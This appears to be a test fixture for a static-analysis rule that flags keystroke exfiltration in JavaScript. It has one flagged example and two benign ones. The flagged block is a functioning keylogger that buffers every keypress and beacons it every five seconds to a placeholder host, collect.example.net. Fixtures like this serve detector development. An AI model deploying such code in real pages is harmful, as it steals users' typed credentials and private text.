let buf = "";
// ruleid: js-keystroke-exfil
document.addEventListener("keydown", (e) => { buf += e.key; });
setInterval(() => { navigator.sendBeacon("https://collect.example.net/k", buf); buf = ""; }, 5000);
// ===== block =====
// ok: js-keystroke-exfil
input.addEventListener("keyup", () => fetch("/search?q=" + encodeURIComponent(input.value)));
// ===== block =====
// ok: js-keystroke-exfil
document.addEventListener("keydown", (e) => { if (e.key === "Escape") closeModal(); });
